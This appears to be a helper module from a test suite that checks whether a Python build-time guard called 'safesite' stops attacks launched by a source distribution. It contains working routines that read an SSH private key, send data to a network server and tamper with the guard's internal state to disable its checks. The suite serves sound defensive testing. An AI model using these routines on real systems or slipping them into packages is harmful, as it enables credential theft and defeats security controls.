"""What each attack of this sdist aims at, and how it shows that it got there.

An attack leaves one of these, which the test looks for: its TOKEN at a server; a file or folder
that is named by the TOKEN or holds it, outside of the build; VICTIM, a file of its own in the home
folder, changed; a secret given to `take`; `reached`, where nothing else can be seen.
"""

import importlib.util
import json
import os
import sys
from os import O_APPEND, O_CREAT, O_WRONLY, close, write
from os import open as open_descriptor

FOLDER = os.path.dirname(os.path.abspath(__file__))

with open(os.path.join(FOLDER, "aim.json")) as file:
    PLACES = json.load(file)

HOME = PLACES["home"]
SECRET = os.path.join(HOME, ".ssh", "id_rsa")
KEYS = os.path.dirname(SECRET)  # one file's name in it is a secret
COOKIES = PLACES["cookies"]  # a database with one table and one secret
MARKERS = PLACES["markers"]  # a folder that is not the build's
SITE_PACKAGES = PLACES["site_packages"]
OTHER_BUILD = PLACES["other_build"]  # where pip has another package built
STOCK = PLACES["stock"]  # the base interpreter
VENV = PLACES["venv"]
PROCESS = PLACES["process"]  # the number of somebody else's process: it has a secret variable
TCP = tuple(PLACES["tcp"])
UDP = tuple(PLACES["udp"])
GREETER = tuple(PLACES["greeter"])  # says hello first, as FTP and mail servers do
UNIX = PLACES["unix"]

# Of the attack at hand; see `begin`.
NAME = VARIANT = TOKEN = WITNESS = VICTIM = WORK = LOOT = SHELL = CHILD = EARLY = ""
goes_to_the_end = False  # whether the attack waits for the end of Python
REACHED = "it got through"


class Unavailable(Exception):
    """This interpreter, or this machine, does not have what the attack uses."""


def begin(name):
    """Set what belongs to one attack."""
    here = globals()
    here["NAME"], _, here["VARIANT"] = name.partition("@")
    here["TOKEN"] = PLACES["tokens"][name]
    here["WITNESS"] = os.path.join(MARKERS, TOKEN)
    here["VICTIM"] = os.path.join(HOME, "victims", TOKEN)
    here["LOOT"] = loot_of(TOKEN)
    here["WORK"] = os.path.join(FOLDER, "work", TOKEN)  # the build's own
    os.makedirs(WORK, exist_ok=True)
    os.chdir(WORK)
    # For where not even the standard library can be imported yet.
    here["EARLY"] = f"import posix\nposix.open({WITNESS!r}, {O_WRONLY | O_CREAT})\n"
    here["SHELL"] = f"echo {TOKEN} > '{WITNESS}'"
    here["CHILD"] = (
        f"open({WITNESS!r}, 'w').close()\n"
        "import socket\n"
        f"socket.create_connection({TCP!r}).sendall({TOKEN.encode()!r})\n"
    )


def loot_of(token):
    """Return where the build keeps what an attack took."""
    return os.path.join(FOLDER, "loot", token)


def take(data):
    """Keep what was read, or say how far it got."""
    text = data if isinstance(data, bytes) else str(data).encode()
    # Imported before an attack could replace them.
    descriptor = open_descriptor(LOOT, O_WRONLY | O_CREAT | O_APPEND, 0o600)
    write(descriptor, text + b"\n")
    close(descriptor)


def reached():
    """Say that what must be refused was not."""
    take(REACHED)


def send():
    """Send the token away."""
    import socket

    with socket.create_connection(TCP, 5) as connection:
        connection.sendall(TOKEN.encode())


def read(path=SECRET, opened=open):
    """Take what is in a file."""
    with opened(path, "rb") as stream:
        take(stream.read())


def steal():
    """Do what is refused, after an attempt at the guard: read a key, send something away."""
    failed = None
    for act in (read, send):
        try:
            act()
        except BaseException as error:
            failed = error
    if failed is not None:
        raise failed


def steal_and_tell(show=sys.stderr.write):
    """Do the same; print what it raises, and go on."""
    try:
        steal()
    except BaseException as error:
        show(f"{type(error).__name__}: {error}\n")


def steal_in_child():
    """Steal in a process that was started anew, which has to find out first what it aims at."""
    begin(os.environ["ATTACK"])
    steal_and_tell()


def need(*modules):
    """Give up without these modules, which this does not import."""
    for module in modules:
        if module not in sys.builtin_module_names and importlib.util.find_spec(module) is None:
            raise Unavailable(f"no module {module}")


def need_version(*version):
    """Give up on an older Python."""
    if sys.version_info < version:
        raise Unavailable("new in {}.{}".format(*version))


def need_program(name):
    """Return the path of a program; give up if there is none."""
    for folder in ("/usr/bin", "/bin", "/usr/local/bin"):
        path = os.path.join(folder, name)
        if os.access(path, os.X_OK):
            return path
    raise Unavailable(f"no program {name}")


def put(name, text, mode=0o644):
    """Write a file into the attack's own folder; return its path."""
    path = os.path.join(WORK, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as stream:
        stream.write(text)
    os.chmod(path, mode)
    return path


def wreck(namespace):
    """Change all that a guard may keep in a namespace: empty it, flip it, have it say yes."""
    for name, value in list(namespace.items()):
        try:
            if name.startswith("__") or isinstance(value, type(os)):
                continue
            if isinstance(value, bool):
                namespace[name] = not value
            elif isinstance(value, (set, list, dict)):
                value.clear()
            elif callable(value) and not isinstance(value, type):
                namespace[name] = lambda *_, **__: True
            elif isinstance(value, str):
                namespace[name] = "/"
        except BaseException:  # what it cannot change
            pass


def is_guards(namespace):
    """Tell a namespace of the guard's by its names."""
    names = (namespace.get("__name__"), namespace.get("__package__"))
    named = any(str(name).partition(".")[0] == "safesite" for name in names)
    return named or is_file_of_guard(str(namespace.get("__file__")))


def is_file_of_guard(path):
    """Tell a file of the guard's, by whatever path to it."""
    return any(folder in path for folder in PLACES["guard"])


def is_guard_busy(frame):
    """Return whether a frame was called by the guard, and not by the attack directly."""
    while frame is not None and not frame.f_globals.get("__name__", "").startswith("attacks."):
        if is_guards(frame.f_globals):
            return True
        frame = frame.f_back
    return False


def caller():
    """Return the frame of the caller, by no function of sys."""
    try:
        raise RuntimeError
    except RuntimeError as error:
        return error.__traceback__.tb_frame.f_back
